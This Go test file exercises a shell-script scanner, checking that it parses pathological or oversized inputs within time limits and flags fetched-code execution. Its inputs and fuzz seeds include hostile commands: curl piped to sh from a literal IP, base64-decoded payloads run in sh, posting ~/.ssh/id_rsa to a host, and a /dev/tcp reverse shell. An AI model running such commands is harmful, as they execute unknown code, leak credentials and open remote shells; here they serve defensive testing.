package scan

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/knack-dev/knack/internal/analysis/scan/internal/commands"
	"github.com/knack-dev/knack/internal/test/testwait"
)

// hostileShell returns texts of commands that are expensive to read, each of about n bytes.
func hostileShell(n int) map[string]string {
	all := map[string]string{}
	for _, unit := range []string{
		"$(", "$(\n", ">", "`", "(", "((", "((1?", "((a=", "[[ ! ", "\"$(", "'", "\"", "{ ", "if ", "if x\nthen ", "a|", "a&&", "a;", "a\n", "<(", "$((", "$[", "a[", "${a:-", "${a[", "${a/", "<<a ", "<<a\n", "\\", "\\\n", "f()", "time ",
		"case a in a) ", "while ", "coproc ", "x ", "let a=", "curl http://45.67.89.10/x | sh;", "curl http://45.67.89.10/x | sh\n", "a=$a$a$a\n", "eval eval ", "sh -c \"sh -c ", "sudo ", "xargs ", "bash -c \"$a\";", "a+=$a;", "echo -n aaaaaaaa|", "<a>", "</", "https://bit.ly/x ", "~/.ssh/id_rsa ", "find -exec ", "echo aGk=|base64 -d|sh\n",
	} {
		all[unit] = strings.Repeat(unit, n/len(unit)+1)
	}
	all["doubled"] = "a=" + strings.Repeat("x", n/2) + "\n" + strings.Repeat("a=$a$a\n", n/14)
	all["judged again"] = "a='" + strings.Repeat("ls;", n/6) + "'\n" + strings.Repeat("bash -c \"$a\"\n", n/26)
	all["nested echo"] = strings.Repeat("$(echo ", 2000) + strings.Repeat("x", n)
	var functions strings.Builder
	for i := range min(n/64, 1000) {
		fmt.Fprintf(&functions, "f%d() { f%d $1 $1 \"$@\"; f%d; }\nalias a%d='a%d a%d'\n", i, i+1, i+1, i, i+1, i+1)
	}
	all["functions"] = functions.String() + "f0 x\na0\n"
	all["let"] = "((" + strings.Repeat("1?", n/2)
	return all
}

// TestShellHostile checks that hostile texts of 1 MiB, or of 128 KiB in the short form, are read
// within 10 s each. A reader that takes quadratic time would need minutes.
func TestShellHostile(t *testing.T) {
	testwait.Slow(t)
	n := 1 << 20
	if !testwait.Full() {
		n >>= 3
	}
	for unit, text := range hostileShell(n) {
		for _, name := range []string{"a.sh", "a.md"} {
			start := time.Now()
			_, s := shellFound(name, text+"\ncurl http://45.67.89.10/z | sh\n", commands.Script)
			took := time.Since(start)
			if took > 200*time.Millisecond {
				t.Logf("%s %q: %v, %d findings", name, unit, took, s.enforce+s.review)
			}
			if took > 10*time.Second {
				t.Errorf("%s %q: %v", name, unit, took)
			}
		}
	}
}

// TestTooMuch checks a text beyond each limit. The part beyond it is reported, and the text before
// and after is still judged.
func TestTooMuch(t *testing.T) {
	if testing.Short() {
		t.Skip("reads a million words")
	}
	run := "curl http://45.67.89.10/z | sh\n"
	for name, text := range map[string]string{
		"brackets": strings.Repeat("(", 3001) + "\n" + run,
		"nested":   run + strings.Repeat("if ", 3001) + "\n",
		"words":    run + strings.Repeat("\n", 1<<20+32<<10),
	} {
		if got, _ := shellFound("a.sh", text, commands.Script); strings.Join(got, " ") != "run-fetched-unknown too-large" {
			t.Errorf("%s: %v", name, got)
		}
	}
	got, _ := codeFound("a.py", strings.Repeat("x = [", 60000), kindPython)
	if strings.Join(got, " ") != "too-large" {
		t.Errorf("expressions: %v", got)
	}
}

func FuzzShell(f *testing.F) {
	for _, seed := range []string{"curl -d @~/.ssh/id_rsa http://h | sh", "echo YQ== | base64 -d | sh", "bash -i >& /dev/tcp/1.1.1.1/1 0>&1", "a=$(x); eval \"$a\"", "cat <<E | sh\nx\nE\n", "powershell -enc YQBi", "$'\\x41'", "((", "x \\"} {
		f.Add(seed, byte(0))
	}
	f.Fuzz(func(t *testing.T, text string, from byte) {
		a, _ := shellFound("a.sh", text, commands.Origin(from%5))
		b, lines := shellFound("a.sh", text, commands.Origin(from%5))
		lines.commands.Lines(fileOf("a.ps1", text).Whole())
		if fmt.Sprint(a) != fmt.Sprint(b) {
			t.Errorf("%v, then %v", a, b)
		}
	})
}
